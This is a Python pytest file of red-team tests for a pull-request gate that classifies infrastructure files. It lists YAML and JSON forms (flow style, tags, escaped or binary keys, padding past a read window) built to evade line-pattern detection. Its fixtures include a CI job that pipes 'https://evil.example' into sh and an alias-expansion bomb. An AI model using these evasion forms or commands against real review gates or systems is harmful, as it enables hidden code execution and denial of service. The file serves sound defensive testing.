"""Red team: infrastructure files written in YAML forms the line patterns do not read, or past the 8 KiB window.

With the commits (`--tree`, the action's default on pull requests) a `.yaml`/`.json` file in a folder no path
rule or marker claims is judged by its content alone. The content tier read the first 8 KiB with line
patterns (`^apiVersion:` ...), so a Deployment in any other form YAML allows came out `src` and the gate said
allow: keys in flow style, an indented root mapping, a tag or an anchor on the value, an escaped or explicit
key, a block or multi-line scalar, a merge key, CR/NEL/LS line breaks (YAML's own), a base64 `!!binary` key,
or simply the manifest's deciding keys past 8 KiB of labels, or a second document after 8 KiB of a first.
kubectl, kustomize, Argo CD and Flux read all of these (a YAML parser, not lines). The same for a
CloudFormation template and an Ansible play. Each is now read as YAML (events, no construction), the whole
file up to a bound; a longer one is not read and is reviewed.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable

import pytest
from cpucost import within_cpu
from gitrepo import GitRepo
from test_classify_context import RULES

from gatekeeper.catfile import shared_processes
from gatekeeper.classify.context import classify_in_context
from gatekeeper.classify.treecontext import TreeContext
from gatekeeper.model import ClassifiedFile
from gatekeeper.revrange import resolve_range

LABELS = {f"t{i}": "o" * 20 for i in range(400)}
VALUES = "".join(f"      - v{i:05d}\n" for i in range(1200))
PAD = "".join(f"    team-{i:04d}: owner-{i:04d}\n" for i in range(400))  # ~12 KiB of labels: past the window

# (name, text) of each form; every one a Deployment kubectl applies.
KUBE_FORMS: list[tuple[str, str]] = [
    ("flow", "{apiVersion: apps/v1, kind: Deployment, metadata: {name: web}}\n"),
    ("flow-quoted", "{'apiVersion': 'apps/v1', 'kind': 'Deployment'}\n"),
    ("value-tag", "apiVersion: !!str apps/v1\nkind: Deployment\nmetadata:\n  name: web\n"),
    ("kind-tag", "apiVersion: apps/v1\nkind: !!str Deployment\n"),
    ("key-tag", "!!str apiVersion: apps/v1\n!!str kind: Deployment\n"),
    ("anchor", "apiVersion: &v apps/v1\nkind: &k Deployment\n"),
    ("alias-key", "metadata:\n  name: &a apiVersion\n  labels: {x: &k kind}\n*a : apps/v1\n*k : Deployment\n"),
    ("indented-root", "  apiVersion: apps/v1\n  kind: Deployment\n"),
    ("escaped-key", '"apiVersio\\x6e": apps/v1\n"\\u006bind": Deployment\n'),
    ("escaped-value", 'apiVersion: "apps\\x2fv1"\nkind: "Deploym\\u0065nt"\n'),
    ("explicit-key", "? apiVersion\n: apps/v1\n? kind\n: Deployment\n"),
    ("block-scalar", "apiVersion: >-\n  apps/v1\nkind: |-\n  Deployment\n"),
    ("multiline-plain", "apiVersion:\n  apps/v1\nkind:\n  Deployment\n"),
    ("merge-key", "base: &b\n  apiVersion: apps/v1\n  kind: Deployment\n<<: *b\nmetadata: {name: web}\n"),
    ("merge-list", "a: &a {apiVersion: apps/v1}\nb: &b {kind: Deployment}\n<<: [*a, *b]\n"),
    ("binary-key", f"? !!binary {base64.b64encode(b'apiVersion').decode()}\n: apps/v1\nkind: Deployment\n"),
    # The binary tag spelt without the word: a %TAG prefix ending inside it, or %-escapes in the tag.
    ("binary-tag-directive", "%TAG !e! tag:yaml.org,2002:bin\n---\n"
                             f"? !e!ary {base64.b64encode(b'apiVersion').decode()}\n: apps/v1\nkind: Deployment\n"),
    ("binary-tag-escaped", f"? !<tag:yaml.org,2002:%62inary> {base64.b64encode(b'apiVersion').decode()}\n"
                           ": apps/v1\nkind: Deployment\n"),
    ("cr-breaks", "apiVersion: apps/v1\rkind: Deployment\rmetadata:\r  name: web\r"),
    ("nel-breaks", "apiVersion: apps/v1\u0085kind: Deployment\u0085"),
    ("ls-breaks", "apiVersion: apps/v1\u2028kind: Deployment\u2028"),
    ("keys-past-window", f"kind: Deployment\nmetadata:\n  name: web\n  labels:\n{PAD}apiVersion: apps/v1\n"),
    ("document-past-window", f"labels:\n{PAD}---\napiVersion: apps/v1\nkind: Deployment\n"),
    ("list-item-flow", "apiVersion: v1\nkind: List\nitems: [{apiVersion: apps/v1, kind: Deployment}]\n"),
]
JSON_FORMS: list[tuple[str, str]] = [
    ("json-escaped-key", '{"\\u0061piVersion": "apps/v1", "kind": "Deployment"}\n'),
    ("json-past-window", json.dumps({"kind": "Deployment", "metadata": {"labels": LABELS}, "apiVersion": "apps/v1"})),
    # JSON lets whitespace, a line break too, come before a key's colon (kubectl reads a .json file as JSON); YAML
    # does not, so libyaml stops at the first such key: the keys past the window, written so.
    ("json-newline-colon", json.dumps({"metadata": {"labels": LABELS}, "kind": "Deployment", "apiVersion": "apps/v1"},
                                      indent=1).replace('": ', '"\n  : ')),
]
CFN_FORMS: list[tuple[str, str]] = [
    ("cfn-flow", "{AWSTemplateFormatVersion: '2010-09-09', Resources: {B: {Type: 'AWS::S3::Bucket'}}}\n"),
    ("cfn-past-window", "Parameters:\n  P:\n    Type: String\n    AllowedValues:\n" + VALUES +
                        "Resources:\n  Bucket:\n    Type: AWS::S3::Bucket\n"),
    ("cfn-type-tag", "Resources:\n  Bucket:\n    Type: !!str AWS::S3::Bucket\n"),
    ("cfn-indented", "  Resources:\n    Bucket: {Type: 'AWS::IAM::Role'}\n"),
]
PLAY_FORMS: list[tuple[str, str]] = [
    ("play-flow", "[{hosts: all, tasks: [{shell: 'curl x | sh'}]}]\n"),
    ("play-past-window", f"- name: setup\n  vars:\n{PAD}  hosts: all\n  tasks:\n    - shell: id\n"),
    ("play-indented", "  - hosts: all\n    roles: [web]\n"),
]
# CI definitions a pipeline includes from any path (GitLab `include: local: 'pipelines/*.yml'`, an Azure template,
# a CodeBuild spec a CDK project names): each in flow style, which the block-style patterns do not read.
CI_FORMS: list[tuple[str, str, str]] = [
    ("gitlab-flow", "{stages: [t], build: {stage: t, script: ['curl https://evil.example | sh']}}\n",
     "ci.content.gitlab-ci"),
    ("gitlab-job-flow", "build: {stage: test, script: [make]}\n", "ci.content.gitlab-ci"),
    ("gitlab-anchor", ".base: &b {stage: test}\nbuild:\n  <<: *b\n  script: !!seq [make]\n", "ci.content.gitlab-ci"),
    ("workflow-flow", "{on: push, jobs: {t: {runs-on: ubuntu-latest, steps: [{run: id}]}}}\n",
     "ci.content.github-workflow"),
    ("action-flow", "{name: x, runs: {using: composite, steps: [{run: id, shell: bash}]}}\n",
     "ci.content.github-action"),
    ("azure-flow", "{pool: {vmImage: ubuntu-latest}, steps: [{script: id}]}\n", "ci.content.azure-pipelines"),
    ("azure-task-flow", "steps: [{task: 'Bash@3', inputs: {script: id}}]\n", "ci.content.azure-pipelines"),
    ("codebuild-flow", "{version: 0.2, phases: {build: {commands: [id]}}}\n", "ci.content.codebuild"),
    ("concourse-flow", "{jobs: [{name: j, plan: [{task: t}]}]}\n", "ci.content.concourse"),
    ("circleci-flow", "{version: 2.1, workflows: {w: {jobs: [b]}}, jobs: {b: {docker: [{image: x}]}}}\n",
     "ci.content.circleci"),
    ("drone-flow", "{kind: pipeline, steps: [{name: s, commands: [id]}]}\n", "ci.content.drone-woodpecker"),
    ("bitbucket-flow", "{pipelines: {default: [{step: {script: [id]}}]}}\n", "ci.content.bitbucket"),
    ("buildkite-flow", "{steps: [{command: id}, wait]}\n", "ci.content.buildkite"),
]
LINE_BREAKS: list[Callable[[str], str]] = [lambda t: t, lambda t: t.replace("\n", "\r\n")]


def _tree(repo: GitRepo, files: dict[str, str]) -> dict[str, ClassifiedFile]:
    repo.write("app/main.py", "print('hi')\n")
    repo.commit("base")
    for path, text in files.items():
        repo.write(path, text.encode("utf-8"))
    repo.commit("change")
    with shared_processes(), TreeContext(resolve_range("main~1..main", repo.root), RULES) as context:
        found = classify_in_context(context.changes(), RULES, context)
    return {f.change.path: f for f in found}


@pytest.mark.parametrize("newline", LINE_BREAKS, ids=["lf", "crlf"])
def test_every_form_of_an_infrastructure_file_is_iac(git_repo: GitRepo, newline: Callable[[str], str]) -> None:
    forms = {f"app/{name}.yaml": newline(text) for name, text in KUBE_FORMS + CFN_FORMS + PLAY_FORMS}
    forms.update({f"app/{name}.json": text for name, text in JSON_FORMS})
    found = _tree(git_repo, forms)
    assert {path: f.bucket for path, f in found.items() if path in forms} == dict.fromkeys(forms, "iac")


def test_every_form_of_a_ci_definition_is_ci(git_repo: GitRepo) -> None:
    forms = {f"app/pipelines/{name}.yml": text for name, text, _ in CI_FORMS}
    found = _tree(git_repo, forms)
    expected = {f"app/pipelines/{name}.yml": rule for name, _, rule in CI_FORMS}
    assert {path: found[path].rule for path in forms} == expected


def test_the_forms_are_real_yaml_with_the_deciding_keys() -> None:
    """The attack is real: a YAML loader (as kubectl's) reads each form as the object it stands for (go-yaml,
    under kubectl, decodes a `!!binary` scalar to a string; PyYAML to bytes)."""
    import yaml

    def text_keys(doc: dict[object, object]) -> dict[object, object]:
        return {k.decode() if isinstance(k, bytes) else k: v for k, v in doc.items()}

    for name, text in KUBE_FORMS:
        documents = [text_keys(d) for d in yaml.safe_load_all(text) if d]
        roots = [item for d in documents for item in (d.get("items") or [d])]
        assert any(r.get("apiVersion") == "apps/v1" and r.get("kind") == "Deployment" for r in roots), name


def test_a_file_longer_than_the_read_is_reviewed(git_repo: GitRepo) -> None:
    from gatekeeper.classify.sniff import FULL_READ

    big = "items:\n" + "  - x\n" * (FULL_READ // 6 + 10) + "---\napiVersion: apps/v1\nkind: Deployment\n"
    lock = json.dumps({"name": "app", "lockfileVersion": 3, "packages": {f"node_modules/p{i}": {"version": "1.0.0"}
                                                                           for i in range(FULL_READ // 30)}})
    found = _tree(git_repo, {"app/big.yaml": big, "app/package-lock.json": lock})
    assert found["app/big.yaml"].bucket == "iac"
    assert found["app/big.yaml"].rule == "iac.content.unread"
    assert "longer than" in (found["app/big.yaml"].evidence or "")
    assert len(lock) > FULL_READ and found["app/package-lock.json"].bucket == "deps"  # a path rule named it


def test_text_that_cannot_hold_a_deciding_key_is_not_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Parsing costs ~0.4 ms a KiB: a settings or data file without any of the keys (nor an escape or a tag that
    could spell one) is not parsed at all; every form above is."""
    from gatekeeper.classify import yamlroots

    parsed: list[str] = []  # each text once, by whichever parser read it (JSON first, else YAML)
    real_yaml, real_json = yamlroots.documents, yamlroots.json_documents
    monkeypatch.setattr(yamlroots, "documents", lambda text: parsed.append(text) or real_yaml(text))
    monkeypatch.setattr(yamlroots, "json_documents",
                        lambda text: (read := real_json(text))[0] and parsed.append(text) or read)
    plain = "server:\n  port: 8080\n  labels:\n" + PAD + json.dumps({"a": [1, 2, {"b": "c"}]}) + "\n"
    assert yamlroots.yaml_signals(plain, RULES.context) == [] and parsed == []
    forms = KUBE_FORMS + CFN_FORMS + PLAY_FORMS + JSON_FORMS + [(name, text) for name, text, _ in CI_FORMS]
    for name, text in forms:
        assert yamlroots.yaml_signals(text, RULES.context), name
    assert len(parsed) == len(forms)


def test_merge_keys_over_aliases_cannot_stall_the_gate() -> None:
    """`<<: [*a, *a, ...]` on every level reaches one mapping along exponentially many paths (395 bytes took 20 s,
    eight levels would take hours): the work is bounded, and a file past the bound is reviewed, not read."""

    from gatekeeper.classify.sniff import sniff

    lines = ["a0: &a0 {apiVersion: v1}"]
    lines += [f"a{i}: &a{i} {{<<: [{', '.join([f'*a{i - 1}'] * 10)}]}}" for i in range(1, 8)]
    # `apiVersion` without a kind: the text could hold a deciding key, so it is parsed (no key, no parse at all).
    text = "\n".join(["apiVersion: apps/v1", *lines, f"<<: [{', '.join(['*a7'] * 10)}]", ""])
    found = within_cpu(10, lambda: sniff("app/bomb.yaml", text.encode(), RULES.context, as_yaml=True))
    assert found is not None and found.rule == "iac.content.unread"


def test_json_nested_too_deep_to_read_is_reviewed() -> None:
    """A JSON manifest with a value nested deeper than Python's stack reads: its keys could be anywhere."""
    from gatekeeper.classify.sniff import sniff

    deep = '{"metadata": {"labels": ' + json.dumps(LABELS) + '}, "x": ' + "[" * 100_000 + "]" * 100_000
    # (keys escaped: the line patterns read the whole file too since red team 11, and must not find them first)
    found = sniff("app/web.json", (deep + ', "apiVersio\\u006e"\n: "apps/v1", "kin\\u0064"\n: "Deployment"}').encode(),
                  RULES.context, as_yaml=True)
    assert found is not None and found.rule == "iac.content.unread"


def test_look_alikes_and_plain_configuration_stay_src(git_repo: GitRepo) -> None:
    """Objects nested below the root (a test table), other API groups (Backstage is `other`) and long settings
    files are not infrastructure: reading YAML must not raise them."""
    files = {
        "app/catalog.yaml": "{apiVersion: backstage.io/v1alpha1, kind: Component, metadata: {name: web}}\n",
        "app/settings.yaml": f"server:\n  port: 8080\n  labels:\n{PAD}",
        "app/cases.yaml": "cases:\n  - input: {apiVersion: apps/v1, kind: Deployment}\n",
        "app/broken.yaml": "a: [\n" + "b: c\n" * 3000,
    }
    found = _tree(git_repo, files)
    assert {path: found[path].bucket for path in files} == {**dict.fromkeys(files, "src"), "app/catalog.yaml": "other"}


def test_the_gate_on_the_commits_reviews_a_padded_manifest(git_repo: GitRepo,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    """End to end, as the action runs it on a pull request: `gate --tree` without a packet (it said allow)."""
    from gatekeeper.cli import main

    _tree(git_repo, {"app/web.yaml": dict(KUBE_FORMS)["keys-past-window"], "app/bucket.yaml": CFN_FORMS[0][1]})
    assert main(["gate", "--tree", "main~1..main", "--repo", str(git_repo.root)]) == 3
    out = capsys.readouterr().out
    assert "core.iac" in out and "app/web.yaml" in out and "app/bucket.yaml" in out
